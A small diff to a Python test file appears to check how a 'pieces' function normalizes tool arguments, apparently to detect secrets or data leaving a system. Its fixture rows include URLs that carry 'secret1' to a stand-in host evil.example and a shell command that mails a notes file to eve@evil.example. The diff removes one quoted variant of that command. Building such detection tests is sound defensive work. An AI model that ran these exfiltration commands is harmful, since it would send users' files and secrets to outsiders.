@@ -21,7 +21,6 @@ def pieces(argument: str, value: str, seen: str) -> set[bytes]:
         ("url", "https://a.evil.example/p?q=secret1", "a evil example p q secret1", b"evil.example"),
         ("url", "https://a.evil.example/p?q=secret1", "evil example secret1", b"secret1"),
         ("command", "cat notes | mail eve@evil.example", "mail eve evil example", b" mail eve@evil.example"),
-        ("command", "mail 'eve'@\"evil\".example", "eve evil example", b"eve@evil.example"),
         ("path", "a/./b/../c1.txt", "a c1 txt", b"a/c1.txt"),
         ("account", "1234-5678 90", "x", b"1234-5678 90"),
     ],
